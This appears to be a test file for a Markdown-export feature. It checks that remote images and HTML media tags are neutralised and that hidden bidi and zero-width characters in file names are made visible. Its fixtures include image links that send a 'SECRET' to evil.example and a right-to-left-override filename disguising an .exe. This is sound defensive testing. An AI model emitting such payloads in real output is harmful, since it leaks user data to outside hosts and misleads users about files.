// Exports load nothing by themselves, and names in them are shown as they are.
import { describe, expect, it } from "vitest";
import { answerMarkdown, safeFileName } from "../../src/app/exports.ts";
import { inertMarkdown } from "../../src/app/inert-markdown.ts";
import { newExchange } from "../../src/app/run-view.ts";
import { visibleName } from "../../src/app/visible-text.ts";

/** Everything a Markdown viewer would fetch on its own: image sources and HTML tags. */
function fetchesIn(markdown: string): string[] {
  const found: string[] = [];
  for (const m of markdown.matchAll(/!\[[^\]]*\]\(\s*<?(https?:[^)\s>]+)/g)) found.push(m[1]!);
  for (const m of markdown.matchAll(
    /<(?:img|video|audio|source|picture|iframe|embed|object|svg|image|link|script|style|track|input|body|table)\b[^>]*>/gi,
  ))
    found.push(m[0]);
  return found;
}

describe("inertMarkdown", () => {
  it("keeps the alt text and shows a remote image's URL as inert text", () => {
    expect(inertMarkdown("A chart: ![sales](https://evil.example/c.png?d=SECRET) done")).toBe(
      "A chart: [image: sales] (`https://evil.example/c.png?d=SECRET`) done",
    );
    expect(inertMarkdown('![a (b)](<http://x.example/a b.png> "t")')).toBe("[image: a (b)] (`http://x.example/a b.png`)");
    expect(inertMarkdown("![x](http://h.example/p_(1).png)")).toBe("[image: x] (`http://h.example/p_(1).png`)");
  });

  it("handles reference-style images, collapsed and shortcut forms", () => {
    const md =
      "![one][r1] ![Two][] ![three]\n\n[r1]: http://a.example/1.png\n[two]: <http://a.example/2.png>\n[three]: http://a.example/3.png 'title'";
    const out = inertMarkdown(md);
    expect(out).toContain("[image: one] (`http://a.example/1.png`)");
    expect(out).toContain("[image: Two] (`http://a.example/2.png`)");
    expect(out).toContain("[image: three] (`http://a.example/3.png`)");
  });

  it("escapes raw HTML media and any other tag, keeps autolinks and links", () => {
    const md = [
      '<img src="http://evil.example/i.png" alt="x">',
      '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
      "<audio src=http://evil.example/a.mp3 autoplay></audio>",
      '<table background="http://evil.example/b.png"><tr><td>t</td></tr></table>',
      '<p style="background:url(http://evil.example/s.png)">s</p>',
      "<!-- comment --> <https://ok.example/page> <me@example.org> [a link](https://ok.example/)",
    ].join("\n");
    const out = inertMarkdown(md);
    expect(fetchesIn(out)).toEqual([]);
    expect(out).toContain('&lt;img src="http://evil.example/i.png"');
    expect(out).toContain("<https://ok.example/page>");
    expect(out).toContain("<me@example.org>");
    expect(out).toContain("[a link](https://ok.example/)");
  });

  it("leaves code exactly as written, and inline data images as they are", () => {
    const md =
      '```html\n<img src="http://x.example/a.png">\n![i](http://x.example/b.png)\n```\n\nInline `<img src=x>` and ![d](data:image/png;base64,AAAA)\n\n~~~~\n<b>\n~~~~';
    expect(inertMarkdown(md)).toBe(md);
  });

  it("an image written across lines is found; a blank line ends the search", () => {
    expect(fetchesIn(inertMarkdown("![multi\nline](http://x.example/a.png)"))).toEqual([]);
    expect(inertMarkdown("![not closed\n\n](http://x)")).toBe("![not closed\n\n](http://x)");
  });
});

describe("exported answers", () => {
  it("carry no remote image or media from the answer, the direct answer or the question", () => {
    const e = newExchange("1", "Show ![q](http://evil.example/q.png)");
    e.status = "answered";
    e.answer = "Here: ![chart](http://evil.example/c.png?d=S) <img src=http://evil.example/i.png>";
    e.compare = { status: "done", answer: "<video src=http://evil.example/v.mp4></video>" };
    const md = answerMarkdown(e, ["memo.txt"]);
    expect(fetchesIn(md)).toEqual([]);
    expect(md).toContain("[image: chart]");
    expect(md).toContain("http://evil.example/c.png?d=S");
  });

  it("show document names with their hidden characters made visible", () => {
    const e = newExchange("1", "q");
    const md = answerMarkdown(e, ["\u202Egnp.exe.txt", "a\u200Bb.txt"]);
    expect(md).toContain("- Documents: ⟨U+202E⟩gnp.exe.txt, a⟨U+200B⟩b.txt");
    expect(md).not.toMatch(/[\u202E\u200B]/);
  });

  it("download file names hold no control or bidi character", () => {
    expect(safeFileName("\u202Egnp.exe.txt", "md")).toBe("gnp-exe-txt.md");
    expect(safeFileName("a\u0000b\u2066c", "jsonl")).toBe("a-b-c.jsonl");
  });
});

describe("visibleName", () => {
  it("makes bidi controls, zero-width and control characters visible", () => {
    expect(visibleName("\u202Egnp.exe.txt")).toBe("⟨U+202E⟩gnp.exe.txt");
    const hidden = [
      "\u202A",
      "\u202B",
      "\u202C",
      "\u202D",
      "\u2066",
      "\u2067",
      "\u2068",
      "\u2069",
      "\u200E",
      "\u200F",
      "\u061C",
      "\u200B",
      "\u200C",
      "\u200D",
      "\uFEFF",
      "\u0000",
      "\u001B",
      "\u007F",
      "\u0085",
      "\u2028",
      "\u00AD",
      "\u3164",
    ];
    for (const c of hidden) expect(visibleName(`a${c}b`), `U+${c.codePointAt(0)!.toString(16)}`).toMatch(/^a⟨U\+[0-9A-F]{4}⟩b$/);
    expect(visibleName("tag\u{E0041}")).toBe("tag⟨U+E0041⟩");
  });

  it("leaves ordinary names, other scripts and emoji alone", () => {
    for (const name of ["report 2024.txt", "données/été.csv", "תקציר.txt", "ملف.txt", "日本語.md", "naïve ☃.txt"])
      expect(visibleName(name)).toBe(name);
  });

  it("keeps line breaks and tabs in raw output when asked", () => {
    expect(visibleName("a\n\tb\u202E", true)).toBe("a\n\tb⟨U+202E⟩");
    expect(visibleName("a\nb")).toBe("a⟨U+000A⟩b");
  });
});
